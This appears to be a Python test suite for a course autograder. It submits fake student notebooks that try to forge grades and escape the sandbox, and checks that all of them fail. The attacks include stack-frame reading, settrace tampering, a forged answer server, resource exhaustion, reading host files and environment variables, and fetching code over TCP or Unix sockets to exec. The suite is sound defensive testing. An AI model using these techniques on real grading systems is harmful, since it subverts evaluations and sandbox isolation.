"""Grading a hostile cohort: every kind of attack a red team found, as a Day 0 submission.

Each attacking submission holds the correct answer but uses it only if its attack works, so a
successful attack would show as points. Every one must score 0 on the tests it attacks, with a
reason; honest work keeps full marks (even when it prints 50 MB); the batch always completes.
Also: the sandbox shows nothing of the host but Python and the course package, limits hold for
the whole sandbox, parallel equals serial, an interrupted batch resumes, Dask gives the same
grades, and feedback never shows hidden tests.
"""

from __future__ import annotations

import os
import socket
import threading
import uuid
from pathlib import Path

import nbformat
import pytest
from nbgrader.api import Gradebook
from rich.console import Console

from curriculum.check import check_notebook
from curriculum.console import batch_table, grade_table
from curriculum.grading.limits import Cgroup, Limits
from curriculum.grading.sandbox import bwrap_works
from curriculum.grading.session import GradingSession
from curriculum.syllabus import get_day

from .conftest import learner_notebook, reference_answer

DAY = get_day("day0")
SPEC = DAY.notebook("orientation.ipynb")
TESTS = ["abs_error_percentile_examples", "abs_error_percentile_contract"]
LIMITS = Limits(  # tight, so that the attacks that run into a limit are quick to grade
    cell_timeout=5,
    wall_limit=120,
    memory_mb=2048,
    output_limit_mb=5,
    disk_mb=256,
    max_processes=128,
    message_mb=16,  # small, so that the learner who sends one huge message is quick to run
    output_wait=5,  # that message breaks the output stream: restored after this wait
)
needs_bwrap = pytest.mark.skipif(not bwrap_works(), reason="bubblewrap is not usable here")

DEFINE = "def abs_error_percentile(y_true, y_pred, q=95.0):\n"
WRONG = DEFINE + "    return 0.0\n"


def _good(course) -> str:
    return reference_answer(course, DAY, SPEC, "abs_error_percentile")


def _if_it_worked(condition_code: str, course) -> str:
    """Attack code that ends in `_worked`; the correct answer is defined only if it is true."""
    return f"{condition_code}\nif _worked:\n    exec({_good(course)!r})\nelse:\n{_indent(WRONG)}"


def _indent(code: str) -> str:
    return "".join(f"    {line}\n" for line in code.splitlines())


# -- forging inside the learner's kernel -------------------------------------------------------

FRAME_READER = """import sys

class _Liar(float):
    def __eq__(self, other):
        return True
    __ne__ = __eq__


def abs_error_percentile(y_true, y_pred, q=95.0):
    frame = sys._getframe(1)
    while frame is not None:  # read the test's expected value from its frame
        if "_want" in frame.f_locals:
            return frame.f_locals["_want"]
        frame = frame.f_back
    return _Liar(0.0)
"""
PATCHED_HELPERS = (
    """import math
import numpy as np
np.percentile = lambda *a, **k: 0.0
np.isclose = lambda *a, **k: True
math.isclose = lambda *a, **k: True
"""
    + WRONG
)
INPUT_TRANSFORMER = (
    """ip = get_ipython()
wrap = ["\\nexcept BaseException:\\n    pass\\n"]
ip.input_transformers_post.append(lambda lines: ["try:\\n"] + ["    " + x for x in lines] + wrap)
ip.ast_transformers.append(type("T", (), {"visit": lambda self, node: node})())
"""
    + WRONG
)
SETTRACE = (
    """import sys

def _tracer(frame, event, arg):
    if "_want" in frame.f_locals and "_got" in frame.f_locals:
        frame.f_locals["_got"] = frame.f_locals["_want"]
    return _tracer

sys.settrace(_tracer)
"""
    + WRONG
)
FAKE_SERVER = (
    """import socket
import curriculum.grading.answering as _answering
from curriculum.grading.wire import encode, recv_message, send_message

def _forge(path, token, max_bytes):  # answer every request "ok" with a plausible number
    sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    sock.connect(path)
    send_message(sock, {"kind": "hello", "token": token}, [])
    while True:
        try:
            message, _ = recv_message(sock, max_bytes)
        except Exception:
            return
        if message.get("kind") != "request":
            return
        structure, buffers = encode(2.5)
        send_message(sock, {"kind": "reply", "id": message["id"], "ok": True,
                            "value": structure}, buffers)

_answering.serve = _forge
"""
    + WRONG
)
SILENT_SERVER = (
    """import curriculum.grading.answering as _answering
import curriculum.exam as _exam
_answering.serve = lambda *args, **kwargs: None
_exam.student = None
"""
    + WRONG
)
EXIT_DURING_TEST = DEFINE + "    import os\n    os._exit(0)\n"


def _forging_cases(course) -> dict[str, tuple[str | bytes, str]]:
    """student → (answer code or raw file bytes, what the reason must mention)."""
    good = _good(course)
    return {
        "invalid_json": (b'{"cells": [', "JSON"),
        "empty_file": (b"", "empty"),
        "infinite_loop": ("while True:\n    pass\n" + good, ""),
        "never_returns": (DEFINE + "    while True:\n        pass\n", "s of CPU"),
        "ignores_interrupt": (
            DEFINE + "    while True:\n        try:\n            pass\n"
            "        except KeyboardInterrupt:\n            pass\n",
            "",
        ),
        "os_exit_at_import": ("import os\nos._exit(3)\n" + good, "kernel died"),
        "os_exit_during_test": (EXIT_DURING_TEST, ""),
        "system_exit": (DEFINE + "    raise SystemExit(0)\n", "SystemExit"),
        "memory_blowup": (
            DEFINE + "    import numpy\n    blocks = [numpy.ones(2**27) for _ in range(12)]\n"
            "    return 0.0\n",
            "MemoryError",
        ),
        "frame_reader": (FRAME_READER, ""),
        "patched_helpers": (PATCHED_HELPERS, ""),
        "input_transformer": (INPUT_TRANSFORMER, ""),
        "settrace": (SETTRACE, ""),
        "fake_server": (FAKE_SERVER, ""),
        "silent_server": (SILENT_SERVER, "did not answer"),
        "raises_markup": (
            DEFINE + "    raise ValueError('[/] [bold red]boom[/bold red]')\n",
            "[/]",
        ),
    }


def _limit_cases(course) -> dict[str, tuple[str, str]]:
    """Attacks on the limits: each earns points only if the limit did not hold."""
    # each child holds 640 MB until killed; the attack worked only if all four held it at once
    # for a while (a cgroup's OOM killer may stop a child after it said ok, a watchdog polls)
    child = (
        "import numpy as np, time; a = np.ones(80_000_000); print('ok', flush=True); time.sleep(60)"
    )
    return {
        "memory_in_children": (
            _if_it_worked(
                "import subprocess, sys, time\n"
                f"_ps = [subprocess.Popen([sys.executable, '-c', {child!r}], "
                "stdout=subprocess.PIPE) for _ in range(4)]\n"
                "_worked = all(p.stdout.readline().strip() == b'ok' for p in _ps)\n"
                "time.sleep(3)\n"
                "_worked = _worked and all(p.poll() is None for p in _ps)\n"
                "for p in _ps:\n    p.kill()",
                course,
            ),
            "",
        ),
        "fills_tmp": (
            _if_it_worked(
                "import os, tempfile\n_worked = True\ntry:\n"
                "    for _i in range(3):\n"
                "        with open(os.path.join(tempfile.gettempdir(), f'f{_i}'), 'wb') as _fh:\n"
                "            _fh.write(b'x' * 200_000_000)\n"
                "except OSError:\n    _worked = False",
                course,
            ),
            "",
        ),
        "many_threads": (
            _if_it_worked(
                "import threading, time\n_worked = True\ntry:\n"
                "    for _ in range(400):\n"
                "        threading.Thread(target=time.sleep, args=(6,), daemon=True).start()\n"
                "except RuntimeError:\n    _worked = False",
                course,
            ),
            "",
        ),
        "fills_host_disk": (
            _if_it_worked(
                "import os, time\nfrom ipykernel.kernelapp import IPKernelApp\n"
                "_dir = os.path.dirname(IPKernelApp.instance().connection_file)\n"
                "_worked = True\ntry:\n    for _i in range(3):\n"
                "        with open(os.path.join(_dir, f'junk{_i}'), 'wb') as _fh:\n"
                "            _fh.write(b'x' * 200_000_000)\n    time.sleep(2)\n"
                "except OSError:\n    _worked = False",
                course,
            ),
            "",
        ),
    }


def _honest_cases(course) -> dict[str, str]:
    """Correct answers with odd but harmless behaviour: full marks, always."""
    good = _good(course)
    return {
        "good": good,
        "lone_surrogate": 'print("\\ud800 half a character")\n' + good,
        # one learner floods every channel at once (each flood alone was one more kernel to run)
        "floods_every_channel": (
            'print("x" * 12_000_000)\n'
            "from IPython.display import display\n_h = display('x', display_id=True)\n"
            "for _ in range(300):\n    _h.update('y' * 100_000)\n"
            "from comm import create_comm\n_c = create_comm(target_name='flood')\n"
            "for _ in range(300):\n    _c.send({'state': 'z' * 100_000})\n" + good
        ),
        "one_huge_message": 'print("y" * 20_000_000, flush=True)\n' + good,
    }


def _notebook(course, answer, *, edit_tests=False, delete_tests=False, extra=()) -> bytes:
    if isinstance(answer, bytes):
        return answer
    nb = learner_notebook(course, DAY, SPEC, {"abs_error_percentile": answer})
    cells = []
    for cell in nb.cells:
        grade_id = cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")
        if grade_id in TESTS and delete_tests:
            continue
        if grade_id in TESTS and edit_tests:
            cell.source = "print('all tests passed')"
        cells.append(cell)
    nb.cells = cells + list(extra)
    return nbformat.writes(nb).encode()


def _graded_cell(grade_id, points=100) -> nbformat.NotebookNode:
    cell = nbformat.v4.new_code_cell("print('free points')")
    cell.metadata["nbgrader"] = {
        "grade": True,
        "grade_id": grade_id,
        "points": points,
        "solution": False,
        "locked": True,
    }
    cell.metadata["mlsd"] = {"canary": True}
    return cell


def _write(root: Path, students: dict[str, bytes]) -> dict[str, dict[str, Path]]:
    out = {}
    for student, data in students.items():
        path = root / student / DAY.id / SPEC.filename
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        out[student] = {SPEC.filename: path}
    return out


def _grade(course, workdir, submissions, **options):
    options.setdefault("limits", LIMITS)
    with GradingSession(course, workdir, **options) as session:
        return {g.student: g for g in session.grade(DAY, submissions)}


def _assert_attack_fails(student, grade, expected=""):
    scored = {q.grade_id: q for q in grade.questions}
    for test in TESTS:
        assert scored[test].points == 0, f"{student} earns points on {test}"
        assert scored[test].message, f"{student} loses {test} without a reason"
    reasons = " ".join([grade.error, *(q.message for q in grade.questions)])
    assert expected in reasons, f"{student}: expected a reason about {expected!r}: {reasons}"


def test_a_hostile_cohort_scores_nothing_and_honest_work_keeps_full_marks(course, tmp_path):
    forging, limits, honest = _forging_cases(course), _limit_cases(course), _honest_cases(course)
    students = {name: _notebook(course, answer) for name, (answer, _) in forging.items()}
    students |= {name: _notebook(course, answer) for name, (answer, _) in limits.items()}
    students |= {name: _notebook(course, answer) for name, answer in honest.items()}
    stub = "raise NotImplementedError()"
    students["tests_edited"] = _notebook(course, stub, edit_tests=True)
    students["tests_deleted"] = _notebook(course, stub, delete_tests=True)
    students["adds_graded_cells"] = _notebook(
        course,
        WRONG,
        extra=[_graded_cell(""), _graded_cell(None), _graded_cell("bonus"), _graded_cell(TESTS[0])],
    )
    attachment = nbformat.v4.new_markdown_cell("![big](attachment:big.png)")
    attachment["attachments"] = {"big.png": {"image/png": "A" * 20_000_000}}
    students["huge_attachment"] = _notebook(course, _good(course), extra=[attachment])
    submissions = _write(tmp_path / "in", students)
    link = tmp_path / "in" / "links_to_source" / DAY.id / SPEC.filename
    link.parent.mkdir(parents=True)
    link.symlink_to(course.source_notebook(DAY, SPEC))
    pipe = tmp_path / "in" / "named_pipe" / DAY.id / SPEC.filename
    pipe.parent.mkdir(parents=True)
    os.mkfifo(pipe)
    submissions |= {"links_to_source": {SPEC.filename: link}, "named_pipe": {SPEC.filename: pipe}}

    grades = _grade(course, tmp_path / "course", submissions, workers=2)
    assert set(grades) == set(submissions), "every student gets a row"

    for name in honest:
        grade = grades[name]
        assert [q.points for q in grade.questions if q.autograded] == [1.0, 2.0], (name, grade)
        assert not grade.error, (name, grade.error)
    assert any("truncated" in n for n in grades["floods_every_channel"].notes)
    assert any("dropped" in n for n in grades["one_huge_message"].notes)
    for name in ("floods_every_channel", "one_huge_message"):
        executed = tmp_path / "course" / "autograded" / name / DAY.id / SPEC.filename
        size = executed.stat().st_size
        assert size < 2 * LIMITS.output_bytes, f"{name}: executed notebook of {size} bytes"
    assert grades["huge_attachment"].auto_score == 3
    assert any("attachments" in n for n in grades["huge_attachment"].notes)

    for name, (_, expected) in {**forging, **limits}.items():
        _assert_attack_fails(name, grades[name], expected)
    _assert_attack_fails("links_to_source", grades["links_to_source"], "symbolic link")
    _assert_attack_fails("named_pipe", grades["named_pipe"], "not a regular file")
    for name in ("tests_edited", "tests_deleted", "adds_graded_cells"):
        _assert_attack_fails(name, grades[name])
        assert grades[name].max_score == 5, f"{name}: a learner changed what the notebook is worth"
    assert any("restored" in n for n in grades["tests_edited"].notes)
    assert any("re-added" in n for n in grades["tests_deleted"].notes)

    # the limits held for the whole sandbox, and said so where the kernel was stopped
    hog = grades["memory_in_children"]  # stopped by the watchdog, or a child by the OOM killer
    assert "memory" in " ".join([hog.error, *hog.notes]), (hog.error, hog.notes)
    if Cgroup.create(64, 16) is None:  # the watchdog enforced them: it names the limit
        assert "processes" in grades["many_threads"].error
    assert "disk" in grades["fills_host_disk"].error

    # what learners wrote is printed as text, never as markup (and never crashes the table)
    console = Console(record=True, width=200)
    console.print(batch_table(grades.values()))
    console.print(grade_table(grades["raises_markup"]))
    assert "[/]" in console.export_text()
    # a batch with a lone surrogate in its output resumes from its ledger
    with GradingSession(course, tmp_path / "course", limits=LIMITS) as session:
        again = session.grade(DAY, {"lone_surrogate": submissions["lone_surrogate"]})
    assert again[0].auto_score == 3


def _serve_once(server: socket.socket, payload: bytes) -> threading.Thread:
    def serve():
        server.settimeout(120)
        try:
            conn, _ = server.accept()
        except OSError:
            return
        with conn:
            conn.sendall(payload)

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    return thread


def _host_attacks(course, secret_dir: Path, tcp_port: int, abstract_name: str) -> dict[str, str]:
    """Attacks that score if the kernel can see the host: the course, another folder, the
    grader's environment, its network, Unix sockets, other students' kernels."""
    steal = (
        "import pathlib, curriculum\n"
        "_root = pathlib.Path(curriculum.__file__).resolve().parent.parent\n"
        "_text = (_root / 'source' / 'day0' / 'orientation.ipynb').read_text()\n"
        "import json\nfor _c in json.loads(_text)['cells']:\n"
        "    if _c['metadata'].get('nbgrader', {}).get('grade_id') == 'abs_error_percentile':\n"
        "        exec(''.join(_c['source']))\n"
    )
    return {
        "reads_the_course": steal,
        "reads_another_host_folder": f"exec(open({str(secret_dir / 'answer.py')!r}).read())\n",
        "reads_the_graders_environment": "import os\nexec(os.environ['MLSD_TEST_ANSWER'])\n",
        "calls_home_over_tcp": (
            "import socket\n_c = socket.create_connection(('127.0.0.1', "
            f"{tcp_port}), timeout=3)\nexec(_c.makefile().read())\n"
        ),
        "uses_a_host_unix_socket": (
            "import socket\n_c = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)\n"
            f"_c.settimeout(3)\n_c.connect({str(secret_dir / 'answer.sock')!r})\n"
            "exec(_c.makefile().read())\n"
        ),
        "uses_an_abstract_socket": (
            "import socket\n_c = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)\n"
            f"_c.settimeout(3)\n_c.connect({abstract_name!r})\nexec(_c.makefile().read())\n"
        ),
        "finds_other_kernels": _if_it_worked(
            "import glob, os, time\nfrom ipykernel.kernelapp import IPKernelApp\n"
            "time.sleep(2)\n_mine = os.path.realpath(IPKernelApp.instance().connection_file)\n"
            "import json\n_seen = set()\n"
            "_where = ['/var/tmp/**/*.json', '/tmp/*/*/*.json', '/tmp/*/*/*/*.json']\n"
            "for _pattern in _where:  # where graders keep job folders\n"
            "    for _p in glob.glob(_pattern, recursive=True):\n"
            "        try:\n"
            "            if 'key' in json.load(open(_p)):  # a connection file, not a kernel spec\n"
            "                _seen.add(os.path.realpath(_p))\n"
            "        except Exception:\n"
            "            pass\n"
            "_worked = bool(_seen - {_mine})",
            course,
        ),
    }


def _grade_host_attacks(course, tmp_path, monkeypatch, sandbox):
    """Grade the host attacks in `sandbox`, with secrets, servers and job folders in /var/tmp."""
    import tempfile

    good = _good(course)
    scratch = Path("/var/tmp") / f"mlsd-test-{uuid.uuid4().hex}"
    secret_dir = scratch / "secret"
    secret_dir.mkdir(parents=True)
    (secret_dir / "answer.py").write_text(good)
    monkeypatch.setenv("MLSD_TEST_ANSWER", good)
    monkeypatch.setenv("TMPDIR", str(scratch))  # the grader's job folders outside /tmp too
    monkeypatch.setattr(tempfile, "tempdir", str(scratch))
    tcp = socket.create_server(("127.0.0.1", 0))
    unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    unix.bind(str(secret_dir / "answer.sock"))
    unix.listen(4)
    abstract = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    abstract_name = f"\0mlsd-{uuid.uuid4().hex}"
    abstract.bind(abstract_name)
    abstract.listen(4)
    for server in (tcp, unix, abstract):
        _serve_once(server, good.encode())
    attacks = _host_attacks(course, secret_dir, tcp.getsockname()[1], abstract_name)
    students = {name: _notebook(course, code) for name, code in attacks.items()}
    students["finds_other_kernels_too"] = students["finds_other_kernels"]
    try:
        return _grade(
            course,
            tmp_path / sandbox,
            _write(tmp_path / "in", students),
            sandbox=sandbox,
            workers=2,
        )
    finally:
        for server in (tcp, unix, abstract):
            server.close()
        import shutil

        shutil.rmtree(scratch, ignore_errors=True)


def test_without_a_sandbox_the_host_attacks_do_score(course, tmp_path, monkeypatch):
    """The control for the sandbox test below: these attacks are real."""
    grades = _grade_host_attacks(course, tmp_path, monkeypatch, "directory")
    scored = {s for s, g in grades.items() if g.auto_score == g.auto_max_score}
    assert {"reads_the_course", "reads_another_host_folder", "calls_home_over_tcp"} <= scored
    assert {"uses_a_host_unix_socket", "uses_an_abstract_socket"} <= scored
    assert "finds_other_kernels" in scored or "finds_other_kernels_too" in scored
    assert "reads_the_graders_environment" not in scored, "kernels never get the grader's env"


@needs_bwrap
def test_the_sandbox_shows_nothing_of_the_host(course, tmp_path, monkeypatch):
    grades = _grade_host_attacks(course, tmp_path, monkeypatch, "bwrap")
    for student, grade in grades.items():
        assert grade.sandbox == "bwrap"
        for q in grade.questions:
            if q.autograded:
                assert q.points == 0, f"{student} earns {q.points} on {q.grade_id}: {q.message}"


def test_directory_fallback_and_a_gradebook_elsewhere(course, tmp_path):
    subs = _write(tmp_path / "in", {"ada": _notebook(course, _good(course))})
    db = tmp_path / "elsewhere" / "grades.db"
    db.parent.mkdir()
    grades = _grade(
        course, tmp_path / "course", subs, sandbox="directory", db_url=f"sqlite:///{db}"
    )
    assert grades["ada"].sandbox == "directory"
    assert grades["ada"].auto_score == 3
    with Gradebook(f"sqlite:///{db}", "mlsd-lab") as gb:
        assert gb.find_submission(DAY.id, "ada").score == 3
    assert not (tmp_path / "course" / "gradebook.db").exists()
    graded = tmp_path / "course" / "autograded" / "ada" / DAY.id / SPEC.filename
    text = graded.read_text(encoding="utf-8")
    assert "20240601" not in text and "Hidden checks" in text, "autograded/ shows hidden tests"


def test_parallel_equals_serial_and_a_batch_resumes(course, tmp_path, monkeypatch):
    good = _good(course)
    wrong = good.replace("np.abs(truth - pred)", "truth - pred")
    students = {
        "ada": _notebook(course, good),
        "bob": _notebook(course, wrong),
        "cyd": _notebook(course, "raise NotImplementedError()"),
    }
    subs = _write(tmp_path / "in", students)
    serial = _grade(course, tmp_path / "serial", subs, workers=1)
    parallel = _grade(course, tmp_path / "parallel", subs, workers=2)
    points = lambda grades: {s: g.points() for s, g in grades.items()}  # noqa: E731
    assert points(serial) == points(parallel)
    assert serial["bob"].auto_score < serial["ada"].auto_score

    # interrupt a batch after its first student, then resume: finished work is not redone
    import curriculum.grading.executors as executors

    ran = []
    real = executors.run_job
    monkeypatch.setattr(executors, "run_job", lambda job: ran.append(job.student) or real(job))

    def stop_after_first(student, grades):
        raise KeyboardInterrupt

    workdir = tmp_path / "resumed"
    with GradingSession(course, workdir, limits=LIMITS) as session:
        with pytest.raises(KeyboardInterrupt):
            session.grade(DAY, subs, on_done=stop_after_first)
    assert ran == ["ada"]
    with GradingSession(course, workdir, limits=LIMITS) as session:
        resumed = {g.student: g for g in session.grade(DAY, subs)}
    assert ran == ["ada", "bob", "cyd"], "a finished student was graded again"
    assert points(resumed) == points(serial)
    with GradingSession(course, workdir, limits=LIMITS, force=True) as session:
        session.grade(DAY, {"ada": subs["ada"]})
    assert ran[-1] == "ada", "--force regrades"


def test_dask_workers_give_the_same_grades(course, tmp_path):
    distributed = pytest.importorskip("distributed")
    subs = _write(
        tmp_path / "in",
        {"ada": _notebook(course, _good(course)), "cyd": _notebook(course, "1/0")},
    )
    serial = _grade(course, tmp_path / "serial", subs)
    with distributed.LocalCluster(
        n_workers=2, threads_per_worker=1, processes=True, dashboard_address=None
    ) as cluster:
        on_dask = _grade(course, tmp_path / "dask", subs, dask=cluster.scheduler_address)
    assert {s: g.points() for s, g in on_dask.items()} == {s: g.points() for s, g in serial.items()}


def test_feedback_never_shows_hidden_tests(course, tmp_path):
    wrong = _good(course).replace("np.abs(truth - pred)", "truth - pred")
    path = tmp_path / "orientation.ipynb"
    path.write_bytes(_notebook(course, wrong))
    result = check_notebook(course, path)
    html = result.feedback.read_text(encoding="utf-8")
    assert "20240601" not in html and "BEGIN HIDDEN TESTS" not in html, "hidden test code leaked"
    assert "Hidden checks" in html and "matched by position" in html
    assert result.grade.auto_score == 0
